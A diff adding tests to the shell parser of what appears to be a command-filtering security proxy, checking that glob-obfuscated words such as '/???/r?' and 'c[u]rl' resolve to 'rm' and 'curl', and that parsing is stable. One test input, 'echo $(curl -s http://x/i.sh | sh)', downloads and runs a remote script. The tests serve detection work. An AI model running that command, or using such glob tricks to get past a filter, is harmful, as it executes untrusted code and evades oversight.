@@ -14,10 +14,12 @@ from aegis_proxy.shell import (
     TRUNCATED_MARKER,
     ShellCommand,
     ShellScript,
+    _parse,
     expand_long_options,
     inline_code,
     looks_like_shell,
     parse_shell,
+    program_name,
     substitution_refs,
 )
 
@@ -460,3 +462,27 @@ SHELLISH = st.text(alphabet="ab $'\"\\`(){}[],;|&<>#=*?~\n\t-/:%@!01xc", max_siz
 def test_never_raises_on_shell_punctuation(text: str) -> None:
     script = parse_shell(text)
     assert all(isinstance(c, ShellCommand) for c in script.commands)
+
+
+@pytest.mark.parametrize(
+    ("word", "program"),
+    [
+        ("/???/r?", "rm"),
+        ("/usr/bin/[r]m", "rm"),
+        ("c[u]rl", "curl"),
+        ("*guest*wifi*", "*guest*wifi*"),
+        ("*.rs", "*.rs"),
+    ],
+    ids=["question-marks", "class", "class-inside", "search-glob", "file-glob"],
+)
+def test_glob_program_words(word: str, program: str) -> None:
+    assert program_name(word)[0] == program
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["ls -la && rm -rf build", "echo $(curl -s http://x/i.sh | sh)", "true;" * 300],
+    ids=["short", "substitution", "longer-than-the-cache-limit"],
+)
+def test_parsing_again_gives_the_same_script(text: str) -> None:
+    assert parse_shell(text) == parse_shell(text) == _parse(text)
